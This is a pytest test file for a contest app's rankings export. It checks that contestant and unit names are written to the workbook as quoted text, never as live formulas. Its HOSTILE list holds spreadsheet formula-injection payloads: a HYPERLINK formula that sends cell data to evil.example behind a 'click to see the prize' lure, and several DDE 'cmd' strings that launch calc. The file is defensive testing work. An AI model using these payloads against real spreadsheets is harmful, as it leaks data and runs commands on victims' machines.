"""The rankings workbook stores what contestants and editors typed as text, never as formulas."""

import datetime
import io

import pytest
from openpyxl import load_workbook

from .factories import AttemptFactory, ContestantFactory, UnitFactory

pytestmark = pytest.mark.django_db
UTC = datetime.UTC

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Bấm để xem giải")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def workbook(client, editor, contest, open_round):
    for index, name in enumerate(HOSTILE):
        unit = UnitFactory(name=f"{name} – đơn vị {index}", group__name=f"{name} – khối {index}")
        contestant = ContestantFactory(contest=contest, unit=unit, full_name=name)
        AttemptFactory(
            contestant=contestant,
            round=open_round,
            score=10 - index,
            duration=datetime.timedelta(seconds=300),
            submitted_at=datetime.datetime(2023, 11, 2, 2, 0, tzinfo=UTC),
        )
    bell_unit = UnitFactory(name="CĐ có chuông", group__name="Khối doanh nghiệp")
    bell = ContestantFactory(contest=contest, unit=bell_unit, full_name="Chuông\x07 Reo")
    AttemptFactory(
        contestant=bell,
        round=open_round,
        score=1,
        duration=datetime.timedelta(seconds=300),
        submitted_at=datetime.datetime(2023, 11, 2, 2, 0, tzinfo=UTC),
    )
    client.force_login(editor)
    response = client.get(f"/admin/contests/round/{open_round.pk}/xuat-ket-qua/")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def test_contestant_and_unit_names_come_back_as_the_same_text(workbook):
    people = list(workbook["Cá nhân"].iter_rows(min_row=2, values_only=True))
    assert [(row[1], row[4], row[5]) for row in people] == [
        *[(name, f"{name} – đơn vị {index}", f"{name} – khối {index}") for index, name in enumerate(HOSTILE)],
        ("Chuông Reo", "CĐ có chuông", "Khối doanh nghiệp"),
    ]
    units = list(workbook["Đơn vị"].iter_rows(min_row=2, values_only=True))
    assert sorted((row[1], row[2]) for row in units if row[1] != "CĐ có chuông") == sorted(
        (f"{name} – đơn vị {index}", f"{name} – khối {index}") for index, name in enumerate(HOSTILE)
    )


def test_no_cell_is_a_formula_and_formula_like_text_keeps_its_quote_prefix(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert workbook["Cá nhân"]["B2"].value == HOSTILE[0] and workbook["Cá nhân"]["B2"].quotePrefix
